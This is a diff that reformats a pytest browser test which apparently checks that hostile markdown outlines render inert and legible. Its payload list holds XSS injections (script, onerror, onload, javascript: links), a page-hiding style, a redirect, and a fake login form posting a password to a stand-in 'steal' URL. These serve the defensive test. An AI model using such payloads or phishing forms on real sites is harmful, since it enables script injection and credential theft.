@@ -34,9 +34,9 @@ PWN = "window.__pwned = true"
 TRICKS = [
     f"<script>{PWN}; alert(1)</script>",
     f'<img src=x onerror="{PWN}">',
-    f"<svg onload=\"{PWN}\"><circle r=9></circle></svg>",
+    f'<svg onload="{PWN}"><circle r=9></circle></svg>',
     f'<iframe src="javascript:{PWN}"></iframe>',
-    '<style>body { display: none !important }</style>',
+    "<style>body { display: none !important }</style>",
     '<meta http-equiv="refresh" content="0; url=https://example.invalid/">',
     '<form action="https://example.invalid/steal"><input name=pw><button>Log in again</button></form>',
     f"[click me](javascript:{PWN})",
@@ -52,7 +52,9 @@ TABLE = "\n".join(
     ["| " + " | ".join(f"column {c}" for c in range(40)) + " |", "|" + "---|" * 40]
     + ["| " + " | ".join(f"cell {r}.{c}" for c in range(40)) + " |" for r in range(150)]
 )
-HOSTILE_OUTLINE = "# Plan\n- **Budget** first\n\n" + "\n\n".join(TRICKS) + "\n\n" + TABLE + "\n\nThe end of the outline."
+HOSTILE_OUTLINE = (
+    "# Plan\n- **Budget** first\n\n" + "\n\n".join(TRICKS) + "\n\n" + TABLE + "\n\nThe end of the outline."
+)
 
 
 @pytest.fixture
@@ -113,9 +115,17 @@ def test_hostile_outlines_render_inert_and_legible(browser, live_server, output_
     outline = page.locator(".outline").first
     assert outline.is_visible()
     text = outline.inner_text()
-    for visible in ("Plan", "Budget first", "<script>window.__pwned", "click me", "data link", "The end of the outline."):
+    for visible in (
+        "Plan",
+        "Budget first",
+        "<script>window.__pwned",
+        "click me",
+        "data link",
+        "The end of the outline.",
+    ):
         assert visible in text, visible
-    assert "Zero\u200bwidth" in text and "right-to-left override" in text
+    assert "Zero\u200bwidth" in text
+    assert "right-to-left override" in text
     assert page.locator(".task-text", has_text="<script>window.__pwned").is_visible()
     # The 40-column table scrolls inside its response; the page itself never scrolls sideways.
     assert page.locator(".outline").first.locator("table td", has_text="cell 149.39").count() == 1
